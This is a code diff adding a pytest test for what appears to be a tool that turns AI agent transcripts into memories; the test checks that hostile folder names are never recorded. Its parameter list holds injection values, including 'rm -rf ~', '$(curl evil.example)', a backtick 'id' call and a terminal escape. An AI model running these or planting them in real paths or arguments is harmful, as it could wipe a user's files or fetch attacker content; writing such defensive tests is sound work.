@@ -183,3 +183,14 @@ def test_where_the_session_ran_is_not_known_a_calls_folder_is_not_either() -> No
     assert [f.content for facts in found.values() for f in facts] == [
         "`pnpm test` runs the tests (worked in 1 session)."
     ]
+
+
+@pytest.mark.parametrize(
+    "told", ["web; rm -rf ~", "web\x1b[8m", "web\nmake deploy", "$(curl evil.example)", "w`id`"]
+)
+def test_a_hostile_folder_is_never_named(told: str) -> None:
+    """A transcript's folder a memory could not name as a plain path is not read at all."""
+    call = _call("exec_command", {"cmd": "pnpm test", "workdir": f"{ROOT}/{told}"})
+    assert _contents((str(ROOT), call)) == ["`pnpm test` runs the tests (worked in 1 session)."]
+    relative = _call("run_shell_command", {"command": "pnpm test", "directory": told})
+    assert _contents((str(ROOT), relative)) == ["`pnpm test` runs the tests (worked in 1 session)."]
